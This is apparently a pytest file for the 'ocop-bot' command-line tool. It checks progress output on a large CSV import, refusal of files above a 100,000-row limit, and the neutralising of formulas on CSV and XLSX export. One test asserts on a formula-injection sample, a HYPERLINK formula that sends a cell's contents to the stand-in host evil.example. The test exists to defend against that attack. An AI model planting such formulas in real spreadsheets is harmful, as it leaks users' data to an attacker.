"""`ocop-bot import` and `ocop-bot export` with large and hostile files (each test runs the real console script)."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from tests.test_cli import run
from tests.test_import import HOSTILE
from tests.test_import_jobs import big_list


def test_a_large_import_shows_its_progress_sparingly(tmp_path: Path) -> None:
    (tmp_path / "big.csv").write_bytes(big_list(6000))
    done = run(tmp_path, "import", "big.csv")
    assert done.returncode == 0, done.stderr
    assert "6000 rows read; imported 6000 products (6000 new" in done.stdout
    tenths = (1000, 1500, 2000, 2500, 3000, 4000, 4500, 5000, 5500, 6000)  # the batches (500 rows) that pass a tenth
    assert done.stderr.splitlines() == [f"import: {n} of 6000 rows ({n * 100 // 6000}%)" for n in tenths]


def test_a_list_above_the_row_limit_is_refused_naming_the_limit(tmp_path: Path) -> None:
    (tmp_path / "country.csv").write_bytes(big_list(100_001))
    refused = run(tmp_path, "import", "country.csv")
    assert refused.returncode == 1 and refused.stdout == ""
    assert refused.stderr == ("ocop-bot import: country.csv: the file has more than 100000 data rows; split it into "
                              "smaller files\n")


def test_exports_hold_no_formula_and_import_back_unchanged(tmp_path: Path) -> None:
    (tmp_path / "hostile.csv").write_text(HOSTILE, encoding="utf-8")
    assert run(tmp_path, "import", "hostile.csv").returncode == 0
    exported = run(tmp_path, "export", "products")
    assert ',"\'=HYPERLINK(""http://evil.example/?p=""&Q2,""x"")",' in exported.stdout
    assert ",'+84 912 345 678," in exported.stdout and "\n1,'-Bánh đa- nem,'@HTX Kế," in exported.stdout
    (tmp_path / "out.csv").write_text(exported.stdout, encoding="utf-8")

    assert run(tmp_path, "export", "products", "--format", "xlsx", "--output", "out.xlsx").returncode == 0
    sheet = load_workbook(tmp_path / "out.xlsx").active
    description = sheet.cell(2, 20)
    assert sheet.cell(1, 20).value == "description"
    assert (description.data_type, description.value) == ("s", '\'=HYPERLINK("http://evil.example/?p="&Q2,"x")')
    for name in ("out.csv", "out.xlsx"):
        back = run(tmp_path, "import", name)
        assert "(0 new, 0 updated, 2 unchanged; 0 new producers, 0 updated); 0 rows rejected." in back.stdout
